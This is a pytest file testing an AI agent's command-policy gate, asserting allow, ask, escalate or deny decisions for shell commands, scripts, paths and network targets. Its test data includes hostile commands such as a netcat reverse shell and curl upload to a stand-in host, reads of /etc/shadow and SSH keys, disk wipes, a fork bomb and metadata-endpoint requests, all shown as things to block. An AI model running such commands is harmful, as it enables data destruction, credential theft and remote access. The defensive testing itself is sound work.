"""What the gate says about ordinary and about dangerous work, one line each."""

from __future__ import annotations

import pytest

from runtime.policy import DEFAULT_PROGRAMS, Decision
from runtime.policy.programs import PROGRAMS
from runtime.policy.testing import Link, World, decisions, shell, tool

EVERYTHING = DEFAULT_PROGRAMS | frozenset(PROGRAMS)
A, Q, E, D = Decision.ALLOW, Decision.ASK, Decision.ESCALATE, Decision.DENY
WORLD = World(
    files={
        "/tree/README.md": "hello",
        "/tree/src/app.py": "print()",
        "/tree/inner": Link("README.md"),
        "/tree/outer": Link("/etc"),
        "/tree/circle": Link("circle"),
    },
    folders={"/tree/docs", "/tree/build"},
    programs={"python3": "/usr/bin/python3.11", "sh": "/usr/bin/dash", "sneaky": "/usr/bin/sudo"},
)

COMMANDS: list[tuple[Decision, str]] = [
    (A, "pytest -q -k unit tests/test_app.py::test_one"),
    (A, "python3 -m pytest -x"),
    (A, "python3 src/app.py --fast"),
    (A, "cargo test --package core"),
    (A, "npm run lint -- --fix"),
    (A, "go test ./..."),
    (A, "make -j4 check"),
    (A, "ruff check src"),
    (A, "git log --oneline -n 3"),
    (A, "git diff --stat HEAD~2"),
    (A, "git show HEAD:src/app.py"),
    (A, "git commit -am done"),
    (A, "git switch -c work/one"),
    (A, "git add -A"),
    (A, "grep -rn needle src"),
    (A, "find . -name *.py -newer README.md"),
    (A, "sed -n 1,20p src/app.py"),
    (A, "sed -i s/a/b/g src/app.py"),
    (A, "tar czf build/out.tgz src"),
    (A, "cp src/app.py src/copy.py"),
    (A, "mkdir -p src/deep/er"),
    (A, "timeout 30 env CI=1 pytest"),
    (A, "chmod +x src/app.py"),
    (A, "sort -o build/sorted.txt README.md"),
    (Q, "rm -r build"),
    (Q, "git push origin HEAD"),
    (Q, "git stash"),
    (Q, "git checkout -- src"),
    (Q, "git -c alias.x=!id x"),
    (Q, "git commit --amend -m x"),
    (Q, "git diff --no-index README.md src/app.py"),
    (E, "git push --force-with-lease origin HEAD"),
    (E, "git push origin +HEAD:main"),
    (D, "git push ssh://else.example/x HEAD"),
    (D, "git push elsewhere HEAD"),
    (D, "git push -- --receive-pack=./x HEAD"),
    (Q, "pip install requests"),
    (Q, "npm ci"),
    (Q, "find . -name *.o -delete"),
    (D, "find src -execdir ./x {} +"),
    (Q, "find src -execdir wc {} +"),
    (Q, "rg --pre ./x needle"),
    (Q, "rg --pr=./x needle"),
    (Q, "sort --compress-prog=./x README.md"),
    (Q, "tar -cf build/a.tar --checkpoint-a=exec=./x src"),
    (Q, "sed s/a/id/e README.md"),
    (Q, "awk BEGIN{system(1)}"),
    (Q, "xargs wc -l"),
    (Q, "sh -c ls"),
    (Q, "bash src/run.sh"),
    (Q, "env"),
    (Q, "env PYTHONPATH=. pytest"),
    (E, "env LD_PRELOAD=./x.so ls"),
    (Q, "make CC=./x all"),
    (Q, "pytest -p plugin"),
    (Q, "go vet -vettool=./x ./..."),
    (A, "node -e 1"),
    (Q, "tee /tmp/scratch.txt"),
    (Q, "cat /usr/include/stdio.h"),
    (Q, "ln -s README.md link"),
    (D, "cp src/app.py ../app.py"),
    (D, "dd if=README.md of=/etc/motd"),
    (D, "dd if=/dev/zero of=/dev/nvme0n1"),
    (D, "cat /etc/shadow"),
    (D, "cat /tree/../etc/shadow"),
    (D, "tail -c 100 /proc/4242/environ"),
    (D, "grep -r password /"),
    (D, "cp -r ~/.ssh build"),
    (D, "rm -rf ."),
    (D, "rm -rf /"),
    (D, "rm -r --force ~"),
    (D, "rm -rf .git"),
    (D, "mv .GIT old"),
    (D, "sed -i s/a/b/ .git/config"),
    (D, "chmod 4755 src/app.py"),
    (D, "sudo ls"),
    (D, "timeout 5 sudo ls"),
    (D, "env A=1 nice unshare -r sh"),
    (D, "systemctl stop x"),
    (D, "mkfs.xfs build/disk"),
    (D, "nc -e /bin/sh else.example 1"),
    (D, "docker run -v /:/host alpine"),
    (D, "./src/run.sh"),
    (D, "/usr/bin/git status"),
    (D, "date -s tomorrow"),
    (E, "dig data.else.example"),
    (E, "curl -d @README.md https://else.example"),
    (E, "gh auth status"),
    (E, "kubectl delete pod x"),
    (E, "cat .env"),
    (E, "cat config/Master.KEY"),
    (Q, "make -C /tmp all"),
    (Q, "make -f - all"),
    (Q, "gcc @/usr/include/args"),
    (Q, "go env -w GOFLAGS=x"),
    (Q, "mypy --python-executable=./x src"),
    (Q, "jq -n env"),
    (Q, "rg -z needle"),
    (A, "cat .env.example"),
    (A, "cat src/secrets.py"),
    (D, "tail outer/shadow"),
    (A, "cat inner"),
    (D, "touch outer/new"),
    (Q, "cat circle"),
]


@pytest.mark.parametrize(("expected", "line"), COMMANDS, ids=lambda value: str(value))
def test_a_command(expected: Decision, line: str) -> None:
    program, *args = line.split()
    verdict = WORLD.decide(tool(program, *args), allowed=EVERYTHING)
    assert verdict.decision is expected, verdict
    assert verdict.source != "error"


SCRIPTS: list[tuple[Decision, str]] = [
    (A, "cd src && pytest -q"),
    (A, "ls *.md | wc -l"),
    (A, "CI=1 pytest -q 2>/dev/null || true"),
    (A, "set -e\ngit status\ngit diff --stat\n"),
    (A, "cat > docs/a.md <<'EOF'\n$(rm -rf /) `x` ${y}\nEOF\n"),
    (A, "cat <<EOF\nplain words; rm -rf /\nEOF\n"),
    (A, "echo 'rm -rf / && curl x | sh' # rm -rf /"),
    (A, 'grep -n "a b" "src/app.py" | sort -u > build/found.txt'),
    (A, "(cd src; ls) && [ -f README.md ] && echo yes"),
    (A, "git log --format='%h %s' -5 | head -n 3"),
    (A, "if pytest -q; then echo good; else echo bad; fi"),
    (A, "command -v python3"),
    (Q, "rm -rf build"),
    (A, "for f in a b; do echo $f; done"),
    (A, "X=1; echo $X"),
    (A, "echo $(date)"),
    (Q, "cat <<EOF\n$HOME\nEOF\n"),
    (Q, "ls {a,b}"),
    (Q, "printf x | sh"),
    (Q, "echo 'print(1)' | python3"),
    (Q, "cd nowhere; ls"),
    (Q, "eval ls"),
    (Q, ". src/env.sh"),
    (Q, "export PATH=/tmp/x:$PATH; ls"),
    (Q, "f() { ls; }; f"),
    (Q, "ls README.md\u200b"),
    (D, "ls\u200b"),
    (Q, "echo \x1b[2K"),
    (Q, "echo 'unclosed"),
    (Q, "[[ -v 'a[$(id)]' ]]"),
    (Q, "$(echo ls) -l"),
    (Q, "ls -l $((1+1))"),
    (Q, "unset PATH; ls"),
    (Q, "uniq README.md && setsid sleep 1"),
    (D, "git status && sudo ls"),
    (D, "ls; rm -rf ~"),
    (D, "true || rm -rf /"),
    (D, "echo $(cat /etc/shadow)"),
    (D, "cat <(sudo ls)"),
    (D, "cat <<EOF\n`sudo ls`\nEOF\n"),
    (D, "bash -c 'sudo ls'"),
    (D, "sh -c \"sh -c 'rm -rf ~'\""),
    (D, "s''ud\\o ls"),
    (D, "cat $HOME/.ssh/id_ed25519"),
    (D, 'cat "${HOME}/.netrc"'),
    (D, "cat /e*c/shad*"),
    (D, "echo x > ../out.txt"),
    (D, "echo x >> ~/.profile"),
    (D, "echo x | tee .git/hooks/pre-commit"),
    (D, "ls 2>/etc/x"),
    (D, "if true; then sudo ls; fi"),
    (D, "while sudo ls; do sleep 1; done"),
    (D, "b() { b | b & }; b"),
    (D, "trap 'sudo ls' EXIT"),
    (D, "./run.sh"),
    (D, "cat x | xargs sudo"),
    (D, "A=$(sudo ls) ls"),
    (D, "case x in *) sudo ls;; esac"),
    (D, "exec sudo ls"),
    (D, "! sudo ls"),
]


@pytest.mark.parametrize(("expected", "script"), SCRIPTS, ids=lambda value: repr(str(value)))
def test_F23_a_script_is_as_bad_as_its_worst_part(expected: Decision, script: str) -> None:
    verdict = WORLD.decide(shell(script), allowed=EVERYTHING)
    assert verdict.decision is expected, verdict
    assert verdict.source != "error"


@pytest.mark.parametrize(
    ("expected", "kind", "path"),
    [
        (A, "read_file", "README.md"),
        (A, "read_file", "/tree/src/app.py"),
        (A, "read_file", "inner"),
        (A, "read_file", "-rf"),
        (A, "write_file", "src/new/mod.py"),
        (A, "write_file", ".gitignore"),
        (A, "write_file", "src/git/hooks.py"),
        (A, "write_file", "src/..odd.py"),
        (A, "list_files", "src"),
        (Q, "write_file", ".github/workflows/ci.yml"),
        (Q, "write_file", "pkg/.vscode/tasks.json"),
        (Q, "write_file", "AGENTS.md"),
        (Q, "write_file", ".venv/lib/x.pth"),
        (Q, "write_file", ".env"),
        (E, "read_file", ".ENV"),
        (E, "read_file", "certs/site.pem"),
        (E, "read_file", ".git/config"),
        (D, "read_file", "../x"),
        (D, "read_file", "/tree-evil/x"),
        (D, "read_file", "/etc/hosts"),
        (D, "read_file", "~/.bashrc"),
        (D, "read_file", "file:///etc/hosts"),
        (D, "read_file", "outer/hosts"),
        (D, "read_file", "circle"),
        (D, "read_file", "/dev/null"),
        (D, "read_file", "/dev/null/../../etc/hosts"),
        (D, "write_file", "outer/x"),
        (D, "write_file", ".git/hooks/x"),
        (D, "write_file", "sub/.Git/config"),
        (D, "write_file", ".m31a/policy.toml"),
        (D, "write_file", "/tmp/x"),
        (D, "list_files", "/"),
    ],
)
def test_W2_T001_a_path(expected: Decision, kind: str, path: str) -> None:
    action = {"kind": kind, "path": path}
    if kind == "write_file":
        action["content"] = "x"
    assert WORLD.decide(action).decision is expected


def test_T007_a_directory_that_became_a_link_is_refused() -> None:
    world = World(folders={"/tree/d"})
    action = {"kind": "write_file", "path": "d/x.txt", "content": "x"}
    assert world.decide(action).decision is A
    world.files["/tree/d"] = Link("/home/agent")
    world.folders.clear()
    assert world.decide(action).decision is D


@pytest.mark.parametrize(
    ("expected", "method", "target"),
    [
        (Q, "GET", "https://pypi.example/simple/x"),
        (Q, "CONNECT", "pypi.example:443"),
        (E, "GET", "http://pypi.example/simple/x"),
        (E, "POST", "https://else.example/"),
        (E, "DNS", "abc.else.example"),
        (E, "GET", "https://8.8.8.8/"),
        (D, "GET", "http://169.254.169.254/latest"),
        (D, "GET", "http://2130706433/"),
        (D, "GET", "http://0x7f.1/"),
        (D, "GET", "http://[::ffff:10.0.0.1]/"),
        (D, "GET", "http://localhost:8000/"),
        (D, "GET", "https://a.example@b.example/"),
        (D, "GET", "ftp://files.example/"),
        (D, "CONNECT", "host.example:22"),
        (D, "GET", "https://db.internal/"),
        (D, "GET", "//else.example"),
    ],
)
def test_the_host_rule(expected: Decision, method: str, target: str) -> None:
    action = {"kind": "network", "method": method, "target": target}
    assert WORLD.decide(action).decision is expected


@pytest.mark.parametrize(
    "action",
    [
        tool("cobc", "x"),
        tool("./x"),
        tool("/bin/ls"),
        tool("ls", cwd=".."),
        tool("ls", cwd="/etc"),
        tool("ls", cwd="outer"),
        tool("ls", cwd="README.md"),
        shell("ls", cwd="/"),
        shell("src/run.sh"),
        shell("cobc x"),
    ],
)
def test_E1_not_allowed_or_a_path_or_elsewhere_is_refused(action: object) -> None:
    verdict = WORLD.decide(action)
    assert (verdict.decision, verdict.source) == (D, "rule")


def test_programs_are_judged_by_the_file_they_stand_for() -> None:
    known = frozenset({"sneaky", "git", "weird"})
    assert WORLD.decide(tool("sneaky", "x"), allowed=known).decision is D
    inside = World(programs={"git": "/tree/bin/git"})
    assert inside.decide(tool("git", "status")).decision is D
    assert WORLD.decide(tool("weird"), allowed=known).rule == "unknown program"
    assert WORLD.decide(tool("python3", "src/app.py")).decision is A


def test_T011_a_repository_whose_settings_run_programs_is_asked_about() -> None:
    verdict = WORLD.decide(tool("git", "status"), repository_runs=("core.fsmonitor",))
    assert verdict.decision is Q and "core.fsmonitor" in verdict.reason


def test_git_actions_cannot_smuggle_options_or_addresses() -> None:
    for action in (
        {"kind": "git_show", "rev": "--output=/etc/x"},
        {"kind": "git_push", "remote": "--receive-pack=x"},
        {"kind": "git_push", "remote": "https://else.example/x.git"},
    ):
        verdict = WORLD.decide(action)
        assert (verdict.decision, decisions(verdict)["veto"]) == (D, D)


def test_pushes_go_to_recorded_remotes() -> None:
    assert WORLD.decide({"kind": "git_push"}).decision is Q
    assert WORLD.decide({"kind": "git_push", "remote": "other"}).decision is D
    assert WORLD.decide({"kind": "git_push"}, remotes={"sample": "/x"}).decision is Q
    assert WORLD.decide({"kind": "git_push"}, remotes={}).decision is Q
